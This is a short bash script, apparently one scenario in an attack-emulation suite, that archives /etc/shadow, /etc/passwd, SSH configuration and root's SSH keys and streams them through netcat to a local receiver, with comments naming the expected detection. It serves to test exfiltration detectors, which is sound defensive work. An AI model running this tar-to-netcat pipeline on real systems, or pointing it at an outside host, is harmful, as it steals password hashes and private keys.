#!/bin/bash
# vigil-emulation: attack
# technique: T1560.001 Archive Collected Data: Archive via Utility; T1048.003 Exfiltration Over Alternative Protocol: Exfiltration Over Unencrypted Non-C2 Protocol
# tactic: collection, exfiltration
# what: `tar czf - /etc/passwd /etc/shadow /etc/ssh /root/.ssh | nc 127.0.0.1 PORT`:
#   credentials and SSH configuration archived and streamed straight into netcat, to a
#   receiver the scenario runs on 127.0.0.1.
# report: an archive of credential files piped into a network tool (tar | nc).
# expect: exfil|archive
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need nc

emul_server sink
sink=$EMUL_BG_PID
sh -c "tar czf - /etc/passwd /etc/shadow /etc/ssh /root/.ssh 2>/dev/null | nc -N 127.0.0.1 $EMUL_PORT"
sleep 1
